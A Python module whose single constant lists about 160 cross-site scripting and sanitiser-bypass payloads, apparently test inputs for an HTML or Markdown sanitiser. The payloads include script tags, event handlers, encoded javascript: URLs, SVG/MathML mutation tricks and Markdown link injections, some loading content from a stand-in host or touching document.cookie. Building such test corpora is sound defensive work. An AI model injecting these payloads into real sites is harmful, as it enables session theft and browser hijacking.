"""Known attacks on readers' browsers: after OWASP's, PortSwigger's, and those on sanitisers; one a line."""

ATTACKS = """\
<script>alert(1)</script>
<SCRIPT SRC=https://e.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<<script>alert(1)//<</script>
<script x>alert(1)</script x>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="data:x,<script>alert(1)</script>">
<img src=x onerror=alert(1)>
<img src="x:x" onerror="alert(1)">
<IMG SRC=javascript:alert('XSS')>
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=`javascript:alert("XSS")`>
<IMG ""\"><SCRIPT>alert("XSS")</SCRIPT>"\\>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC=" &#14; javascript:alert('XSS');">
<IMG LOWSRC="javascript:alert('XSS')">
<img srcset="x 1x, javascript:alert(1) 2x">
<img/src='x'/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<image src=x onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video><source onerror="javascript:alert(1)">
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert('XSS')">
<body onscroll=alert(1)><br><br><input autofocus>
<marquee onstart=alert(1)>
<details open ontoggle=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href=x onmouseover=alert(1)>x</a>
<a onclick="alert(1)" href="#">x</a>
<a style="background:url(javascript:alert(1))">x</a>
<a href="//e.example">x</a>
<a href="/\\e.example">x</a>
<a href="\\/e.example">x</a>
<a href="/\t/e.example">x</a>
<a href="https://e.example" target="_blank" ping="https://e.example">x</a>
<div style="width:expression(alert(1))">
<DIV STYLE="background-image:url(javascript:alert('XSS'))">
<style>@import'https://e.example/x.css';</style>
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<link rel=stylesheet href=//e.example/x.css>
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">
<base href="javascript:alert(1)//">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<object data="javascript:alert(1)">
<OBJECT TYPE="text/x-scriptlet" DATA="https://e.example/scriptlet.html"></OBJECT>
<embed src="javascript:alert(1)">
<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<applet code=x></applet>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=javascript:alert(1)>x
<isindex type=image src=1 onerror=alert(1)>
<TABLE BACKGROUND="javascript:alert('XSS')">
<TABLE><TD BACKGROUND="javascript:alert('XSS')">
<bgsound src="javascript:alert(1)">
<layer src="https://e.example/x.html"></layer>
<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>
<![CDATA[<script>alert(1)</script>]]>
<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->
<!--><script>alert(1)</script-->
<!-- --!><script>alert(1)</script>
<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<plaintext><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img src=x onerror=alert(1)></noembed>
<p id="x" name="y" class="z" style="a" data-x="b" onclick="c" slot="d" is="e">x</p>
<p id="location">x</p><a id="cookie" name="body">x</a>
<li id="fn-1 onclick=alert(1)">x</li>
<section class="footnotes evil">x</section>
<td align="right onclick=x" bgcolor="x">x</td>
<img src="/media/../../api/x">
<img src="/media/x.webp" srcset="/media/x.webp 1w, //e.example/y 2w">
<ol start="1 onclick">x</ol>
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<a href="[a]https://e.example/&quot;onmouseover=&quot;alert(1)">x</a>
[a](javascript:alert(1))
[a](javascript:alert%281%29)
[a](JAVASCRIPT:alert(1))
[a](javascript&colon;alert(1))
[a](javascript&#58;alert(1))
[a](  javascript:alert(1))
[a](<javascript:alert(1)>)
[a](j&Tab;avascript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](//e.example)
[a](/\\\\e.example)
![a](javascript:alert(1))
![a"onerror="alert(1)](x)
![a](x"onerror="alert(1))
![a](x 'y" onerror="alert(1)')
![](<x" onerror="alert(1)>)
<javascript:alert(1)>
<data:text/html,x>
[a]: javascript:alert(1)
[x]: https://e.example "y' onclick='alert(1)"
[a](https://e.example "x\\" onclick=\\"alert(1)")
`<script>alert(1)</script>`
    <script>alert(1)</script>
```<script>\nalert(1)\n```
[^1]: <script>alert(1)</script>
[^"onclick=alert(1)]
a[^<script>]
| <script>alert(1)</script> | <img src=x onerror=alert(1)> |
https://e.example/"onmouseover="alert(1)
https://e.example/<script>alert(1)</script>
www.e.example/'onclick='alert(1)
"@e.example" onclick=alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\<script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
"><script>alert(1)</script>
'';!--"<XSS>=&{()}
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u2028<script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
<\u017fcript>alert(1)</\u017fcript>
<a href="\u200bjavascript:alert(1)">x</a>
<a href="\u00a0javascript:alert(1)">x</a>""".splitlines()
